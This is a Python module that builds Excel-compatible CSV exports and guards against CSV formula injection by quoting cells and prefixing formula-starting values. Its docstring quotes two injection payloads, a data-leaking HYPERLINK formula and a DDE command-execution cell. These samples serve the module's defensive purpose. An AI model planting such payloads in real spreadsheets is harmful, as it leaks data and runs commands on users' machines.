"""CSV files for Excel: UTF-8 with a byte-order mark, every cell quoted, no formula can start.

Two forms (:class:`CsvForm`). The default is what Excel on a Vietnamese Windows opens in columns:
its list separator is ";" (the decimal mark being ","), and it reads dates as dd/mm/yyyy — a
comma-separated file opens there in one column. The other is the standard form other programs
read: "," and ISO dates (2026-11-15).

A spreadsheet opening a CSV reads a cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab
or carriage return before one) as a formula: an aspiration or a task titled
``=HYPERLINK("http://…?x="&A1,"Bấm vào đây")`` or ``=cmd|' /C calc'!A0`` would run on the leader's
machine. As OWASP's "CSV Injection" page describes, such a cell gets a single quote in front (Excel
and LibreOffice show it as text, the quote hidden), and every cell is wrapped in double quotes
with its own double quotes doubled, so whichever separator a program splits at, no piece of a
cell can start a formula either. Control characters an older database may hold are left out
(``core.text.printable``). No Qt.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from collections.abc import Iterable, Sequence
from enum import StrEnum

from giaoban.core.text import printable

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


class CsvForm(StrEnum):
    """How a CSV file separates cells and writes dates (the CLI's ``--csv`` values)."""

    EXCEL = "excel"  # ";" and dd/mm/yyyy: Excel set up for Vietnam opens it in columns
    STANDARD = "standard"  # "," and ISO dates: other programs, scripts

    @property
    def delimiter(self) -> str:
        return ";" if self is CsvForm.EXCEL else ","

    def date(self, value: dt.date) -> str:
        if self is CsvForm.EXCEL:  # dd/mm/yyyy, as strftime("%d/%m/%Y") but a third of its time
            return f"{value.day:02d}/{value.month:02d}/{value.year:04d}"
        return value.isoformat()


def neutralize(text: str) -> str:
    """``text`` as a CSV cell no spreadsheet reads as a formula (a leading ' when needed).

    Judged on the text as given and as written (control characters left out, a carriage return
    made a line end), so neither "\\r=…" nor "\\x00=…" slips through.
    """
    shown = printable(text)  # the same object when nothing was left out
    if text.startswith(FORMULA_STARTS) or (shown is not text and shown.startswith(FORMULA_STARTS)):
        return "'" + shown
    return shown


def cell(value: object, form: CsvForm = CsvForm.STANDARD) -> str:
    """One CSV cell: "" for nothing, dates in the ``form``'s way, text neutralized, numbers as
    they are (whole numbers only in our exports, so no decimal mark to choose)."""
    if isinstance(value, str):  # most cells: tested first
        return neutralize(value)
    if value is None:
        return ""
    if isinstance(value, dt.datetime):
        value = value.date()
    if isinstance(value, dt.date):
        return form.date(value)
    return str(value)


def csv_bytes(header: Sequence[str], rows: Iterable[Sequence[object]],
              form: CsvForm = CsvForm.EXCEL, *, date_columns: Sequence[int] | None = None) -> bytes:
    """The whole CSV file: a header line, then one line per row (CRLF line ends, as Excel's),
    separated and dated as ``form`` says (Excel on a Vietnamese Windows by default).

    ``date_columns`` (0-based; every column that may hold a date) lets a big export go the quick
    way: the cells written as they are by ``csv.writer``, then the formula guard applied to the
    whole text at once (:func:`_quick_body`) — the same bytes, a third of the time, unless some
    cell holds a control character, when the rows are written cell by cell as without it.
    """
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=form.delimiter, quoting=csv.QUOTE_ALL)
    writer.writerow([cell(title, form) for title in header])
    head = buffer.getvalue()
    if date_columns is not None:
        rows = rows if isinstance(rows, list) else list(rows)
        body = _quick_body(rows, form, date_columns)
        if body is not None:
            return (head + body).encode("utf-8-sig")

    def convert(value: object) -> str:  # cell(value, form), the commonest kinds first
        kind = type(value)
        if kind is str:
            return neutralize(value)  # type: ignore[arg-type]
        if value is None:
            return ""
        return str(value) if kind is int else cell(value, form)

    writer.writerows([convert(value) for value in row] for row in rows)
    return buffer.getvalue().encode("utf-8-sig")


# An opening quote followed by what starts a formula: after a separator, or after a line end
# (CRLF; the "\n" is enough, no cell holds a "\r" on the quick way). One literal prefix per
# expression, so the engine skips from one candidate to the next at memchr speed.
_FORMULA_AFTER = {before: re.compile(f'({re.escape(before)}")(?=[=+\\-@\t])')
                  for before in (";", ",", "\n")}


def _quick_body(rows: list[Sequence[object]], form: CsvForm,
                date_columns: Sequence[int]) -> str | None:
    """The rows' lines written by ``csv.writer`` as they are (dates in ``date_columns`` put in
    the form's way first), then a ``'`` put after the opening quote of each cell that starts a
    formula; None when a cell holds a control character or a carriage return (the caller then
    writes cell by cell).

    Every cell is quoted and a quote inside a cell is doubled, so an opening quote is exactly a
    quote at the start of the text or after a separator or a line end that is not followed by a
    second quote. A whole number below zero would get the ``'`` too (a text cell "-5…" must),
    unlike cell by cell; no export writes one.
    """
    written: Sequence[Sequence[object]] = rows
    if date_columns:
        days: dict[object, object] = {None: None}
        for index in date_columns:
            days.update((value, _day(value, form)) for value in {row[index] for row in rows}
                        if value not in days)
        copied: list[list[object]] = [[*row] for row in rows]
        for row in copied:
            for index in date_columns:
                row[index] = days[row[index]]
        written = copied
    buffer = io.StringIO()
    csv.writer(buffer, delimiter=form.delimiter, quoting=csv.QUOTE_ALL).writerows(written)
    text = buffer.getvalue()
    if text.count("\r") != len(rows):  # a cell holds a carriage return
        return None
    without_line_ends = text.replace("\r", "")
    if printable(without_line_ends) is not without_line_ends:  # a control character
        return None
    for before in (form.delimiter, "\n"):
        text = _FORMULA_AFTER[before].sub("\\1'", text)
    return "\"'" + text[1:] if text.startswith(FORMULA_STARTS, 1) else text


def _day(value: object, form: CsvForm) -> object:
    """A date cell as ``cell`` writes it (a datetime by its day); anything else as it is."""
    if isinstance(value, dt.datetime):
        return form.date(value.date())
    return form.date(value) if isinstance(value, dt.date) else value


def csv_file_filters() -> dict[str, CsvForm]:
    """The save dialog's CSV entries and the form each one writes (the GUI's choice of form)."""
    from giaoban.i18n import _

    return {
        _("CSV cho Excel – dấu chấm phẩy, ngày dd/mm/yyyy (*.csv)"): CsvForm.EXCEL,
        _("CSV chuẩn – dấu phẩy, ngày yyyy-mm-dd (*.csv)"): CsvForm.STANDARD,
    }
